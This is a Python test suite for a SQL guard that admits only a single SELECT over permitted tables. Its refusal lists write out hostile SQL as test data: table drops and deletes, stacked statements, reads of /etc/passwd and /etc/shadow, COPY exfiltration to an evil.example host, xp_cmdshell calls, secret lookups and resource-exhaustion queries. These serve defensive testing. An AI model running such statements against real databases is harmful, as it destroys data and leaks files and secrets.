"""Only one SELECT over the tables shown is admitted; what is not known is refused."""

import pytest
import sqlglot
from hypothesis import given
from hypothesis import strategies as st
from sqlglot import exp

from retrieval.errors import Permanent
from retrieval.tables.guard import admit

ADMITTED = [
    "SELECT count(*) FROM prices",
    'SELECT "地区", sum("Price") AS total FROM prices GROUP BY 1 HAVING sum("Price") > 3 ORDER BY 2',
    "WITH dear AS (SELECT * FROM prices WHERE price > 10) SELECT d.id FROM dear d JOIN prices p USING (id)",
    "SELECT * FROM prices WHERE since BETWEEN DATE '2024-01-01' AND current_date",
    "SELECT avg(try_cast(price AS DOUBLE)) FROM prices UNION ALL SELECT 1",
    "SELECT row_number() OVER (PARTITION BY region ORDER BY price) FROM prices",
    "SELECT CASE WHEN price > 1 THEN 'dear' ELSE 'cheap' END, strftime(since, '%Y') FROM prices",
    "SELECT region || '!', price % 2 FROM prices WHERE NOT EXISTS (SELECT 1 FROM prices WHERE price < 0)",
    "SELECT * FROM (SELECT region FROM prices) AS inner_part WHERE region ILIKE '%north%'",
    "SELECT PRICES.region FROM PRICES",
]

WRITES = [
    "DROP TABLE prices",
    "DELETE FROM prices",
    "TRUNCATE prices",
    "UPDATE prices SET price = 0",
    "INSERT INTO prices VALUES (1)",
    "MERGE INTO prices USING prices AS p ON true WHEN MATCHED THEN DELETE",
    "CREATE TABLE copied AS SELECT * FROM prices",
    "CREATE VIEW seen AS SELECT 1",
    "CREATE MACRO m() AS 1",
    "ALTER TABLE prices ADD COLUMN x INT",
    "SELECT * INTO copied FROM prices",
    "WITH gone AS (DELETE FROM prices RETURNING *) SELECT * FROM gone",
    "WITH made AS (INSERT INTO prices VALUES (1) RETURNING *) SELECT * FROM made",
    "SELECT 1; DELETE FROM prices",
    "SELECT 1; SELECT 2",
    "SELECT 1 --\n; DROP TABLE prices",
    "SELECT * FROM prices FOR UPDATE",
    "VACUUM",
    "CHECKPOINT",
]

OUTSIDE = [
    "SELECT * FROM '/etc/passwd'",
    'SELECT * FROM "/etc/passwd"',
    "SELECT * FROM read_csv('/etc/passwd')",
    "SELECT * FROM read_csv_auto('https://evil.example/x')",
    "SELECT * FROM read_parquet('s3://bucket/x')",
    "SELECT * FROM read_json('x')",
    "SELECT * FROM read_text('/etc/shadow')",
    "SELECT read_blob('/etc/shadow')",
    "SELECT * FROM glob('*')",
    "SELECT load_file('/etc/passwd')",
    "SELECT * FROM sqlite_scan('x.db', 't')",
    "SELECT * FROM postgres_scan('host=evil', 'public', 't')",
    "SELECT * FROM query('SELECT 1')",
    "SELECT * FROM query_table('secrets')",
    "COPY prices TO 'stolen.csv'",
    "COPY (SELECT * FROM prices) TO 'https://evil.example/x'",
    "EXPORT DATABASE 'stolen'",
    "IMPORT DATABASE 'planted'",
    "ATTACH 'other.db'",
    "DETACH memory",
    "USE memory",
    "INSTALL httpfs",
    "LOAD httpfs",
    "PRAGMA database_list",
    "SET memory_limit = '100GB'",
    "RESET ALL",
    "CALL pragma_version()",
    "EXPLAIN ANALYZE SELECT 1",
    "DESCRIBE prices",
    "SHOW ALL TABLES",
    "SUMMARIZE prices",
    "PREPARE p AS SELECT 1",
    "EXECUTE p",
    "SELECT getenv('HOME')",
    "SELECT current_setting('home_directory')",
    "SELECT version()",
    "SELECT * FROM duckdb_settings()",
    "SELECT * FROM duckdb_secrets()",
    "SELECT which_secret('s3://x', 's3')",
    "SELECT nextval('s')",
    "SELECT pg_sleep(100)",
    "SELECT pg_read_file('/etc/passwd')",
    "SELECT lo_import('/etc/passwd')",
    "SELECT xp_cmdshell('id')",
    "SELECT sys_eval('id')",
    "SELECT utl_http.request('http://evil.example')",
]

OTHER_TABLES = [
    "SELECT * FROM secrets",
    "SELECT * FROM main.prices",
    "SELECT * FROM memory.main.prices",
    "SELECT * FROM information_schema.tables",
    "SELECT * FROM pg_catalog.pg_tables",
    "SELECT * FROM sqlite_master",
    "SELECT (SELECT max(pay) FROM secrets) FROM prices",
    "SELECT * FROM prices WHERE id IN (SELECT id FROM secrets)",
    "SELECT * FROM prices WHERE EXISTS (SELECT 1 FROM secrets)",
    "SELECT * FROM prices UNION SELECT * FROM secrets",
    "SELECT * FROM prices JOIN secrets USING (id)",
    "SELECT * FROM prices, secrets",
    "SELECT * FROM prices SEMI JOIN secrets USING (id)",
    "SELECT * FROM prices ASOF JOIN secrets ON prices.id >= secrets.id",
    "SELECT * FROM prices POSITIONAL JOIN secrets",
    "SELECT * FROM (prices JOIN (secrets) ON true)",
    "WITH prices2 AS (SELECT * FROM secrets) SELECT * FROM prices2",
    "WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets",
    "WITH a AS (SELECT * FROM secrets), secrets AS (SELECT 1) SELECT * FROM a",
    "FROM secrets",
    "TABLE secrets",
    "PIVOT secrets ON region",
    "UNPIVOT secrets ON a, b",
]

UNBOUNDED = [
    "WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT 1 FROM r) SELECT * FROM r",
    "SELECT * FROM range(1000000000000)",
    "SELECT * FROM generate_series(1, 1000000000000)",
    "SELECT unnest(range(1000000000))",
    "SELECT repeat('x', 1000000000)",
    "SELECT * FROM prices, LATERAL (SELECT 1)",
    "SELECT * FROM unnest([1, 2])",
    "SELECT * FROM prices USING SAMPLE 10",
    "SELECT lpad('x', 1000000000, 'y')",
    "SELECT list_transform([1], x -> x)",
    "SELECT $1",
    "SELECT ?",
    "",
    ";",
    "not sql at all",
    "SELECT" + " 1 +" * 5000 + " 1",
    "SELECT " + "(" * 3000 + "1" + ")" * 3000,
]


@pytest.mark.parametrize("sql", ADMITTED)
def test_a_select_over_the_shown_tables_is_admitted(sql: str) -> None:
    assert sqlglot.parse_one(admit(sql, ["prices"]), read="duckdb")


@pytest.mark.parametrize("sql", [*WRITES, *OUTSIDE, *OTHER_TABLES, *UNBOUNDED])
def test_everything_else_is_refused_with_a_reason(sql: str) -> None:
    with pytest.raises(Permanent, match=r"\w+"):
        admit(sql, ["prices"])


@pytest.mark.parametrize("sql", [*WRITES, *OUTSIDE, *OTHER_TABLES])
@pytest.mark.parametrize(
    "wrap", ["{}", "/* hidden */ {}", "SELECT * FROM ({}) AS inner_part", "SELECT 1 UNION ({})"]
)
def test_wrapping_hides_nothing(sql: str, wrap: str) -> None:
    with pytest.raises(Permanent):
        admit(wrap.format(sql), ["prices"])


POISONS = [
    "getenv('HOME')",
    "current_setting('home_directory')",
    "nextval('counter')",
    "(SELECT max(pay) FROM wages)",
    "(SELECT content FROM read_text('/etc/passwd'))",
    "(SELECT count(*) FROM 'other.csv')",
    "(SELECT max(price) FROM elsewhere.prices)",
    "(SELECT 1 FROM information_schema.tables)",
    "(SELECT count(*) FROM glob('*'))",
    "(SELECT sum(range) FROM range(1000000000))",
]


@given(st.sampled_from(ADMITTED), st.lists(st.sampled_from(POISONS), min_size=1, max_size=3), st.data())
def test_one_bad_part_anywhere_in_a_good_statement_has_it_refused(
    good: str, poisons: list[str], data: st.DataObject
) -> None:
    tree = sqlglot.parse_one(good, read="duckdb")
    for poison in poisons:
        places = [node for node in tree.find_all(exp.Column, exp.Literal, exp.Star) if node.parent]
        place = data.draw(st.sampled_from(places))
        place.replace(sqlglot.parse_one(poison, read="duckdb"))
    with pytest.raises(Permanent, match=r"\w+"):
        admit(tree.sql("duckdb"), ["prices"])


@given(st.text(max_size=200))
def test_any_text_is_admitted_as_a_select_or_refused_and_never_crashes(sql: str) -> None:
    try:
        admitted = admit(sql, ["prices"])
    except Permanent:
        return
    assert isinstance(sqlglot.parse_one(admitted, read="duckdb"), exp.Query)


def test_what_runs_is_rendered_from_the_tree_without_comments() -> None:
    assert admit("SELECT 1 /* ; DROP TABLE prices */ -- x", []) == "SELECT 1"
